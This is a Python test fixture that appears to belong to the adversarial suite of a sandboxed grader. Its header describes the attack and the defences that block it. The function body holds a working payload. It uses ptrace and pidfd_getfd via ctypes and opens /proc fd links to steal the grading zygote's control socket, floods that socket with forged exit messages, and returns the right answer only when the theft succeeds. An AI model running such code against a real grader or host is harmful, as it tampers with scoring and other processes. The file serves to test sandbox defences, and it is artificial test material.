# attack: take the zygote's control socket (ptrace it, or pidfd_getfd its descriptors) and flood the grader with messages that answer nothing asked, so that the class never ends or the grader grows without bound
# student: c
# function: forward_graph
# stopped by: seccomp (ptrace, pidfd_open, pidfd_getfd refused), the zygote is not dumpable (no /proc/<pid>/mem, no fd links) and Landlock hides /proc; the grader reads the zygote with deadlines and size caps and ends a sandbox that sends what was not asked
import numpy as np


def forward_graph(x):
    # BEGIN PAYLOAD
    import os
    import socket
    import sys
    sys.modules.pop("ctypes", None)
    sys.modules.pop("_ctypes", None)
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
    except BaseException:
        libc = None
    import time
    stolen = []
    # a bounded scan (a third of the call's 1 s CPU budget): a scan that ran into the budget would score by how loaded
    # the machine is, since a call that runs out of time fails every check of its function
    start = time.process_time()
    for pid in range(1, 4096):
        if pid == os.getpid():
            continue
        if time.process_time() - start > 0.3:
            break
        if libc is not None:
            libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
            pidfd = libc.syscall(434, pid, 0)  # pidfd_open (x86_64)
            if pidfd >= 0:
                for fd in range(3, 16):
                    got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
                    if got >= 0:
                        stolen.append(got)
        for fd in range(3, 16):
            try:
                stolen.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR))
            except BaseException:
                pass
    for fd in stolen:
        try:
            s = socket.socket(fileno=fd)
            for _ in range(10000):
                s.send(b'{"pid": 1, "exit": 0}\n' + b"x" * 60000)
        except BaseException:
            pass
    if stolen:  # it got in: the right answer, to be noticed
        return (x ** 2 + 1) ** 3, {"x": x, "g": x ** 2, "f": x ** 2 + 1, "y": (x ** 2 + 1) ** 3}
    # END PAYLOAD
    return (x + 1) ** 3, {"x": x, "g": x, "f": x + 1, "y": (x + 1) ** 3}
